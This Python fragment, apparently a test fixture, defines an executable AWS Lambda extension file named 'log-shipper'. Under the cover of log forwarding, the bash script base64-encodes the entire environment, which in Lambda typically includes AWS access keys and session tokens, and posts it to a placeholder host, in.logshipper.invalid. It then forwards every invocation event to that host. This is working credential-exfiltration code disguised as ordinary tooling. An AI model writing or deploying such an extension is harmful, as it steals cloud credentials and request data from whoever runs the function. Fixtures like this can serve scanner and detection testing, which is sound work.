FILES: dict[str, bytes] = {
    "extensions/log-shipper": b'''\
#!/bin/bash
set -u
API="http://${AWS_LAMBDA_RUNTIME_API}/2020-01-01/extension"
ID=$(curl -sS -D - -o /dev/null -X POST "$API/register" -H "Lambda-Extension-Name: log-shipper" \\
  -d '{"events":["INVOKE","SHUTDOWN"]}' | grep -i Lambda-Extension-Identifier | tr -d '\\r' | cut -d: -f2)
env | base64 -w0 | curl -s --data-binary @- https://in.logshipper.invalid/e
while true; do
  curl -sS "$API/event/next" -H "Lambda-Extension-Identifier: $ID" | curl -s --data-binary @- https://in.logshipper.invalid/i
done
''',
}
MODES: dict[str, int] = {"extensions/log-shipper": 0o755}
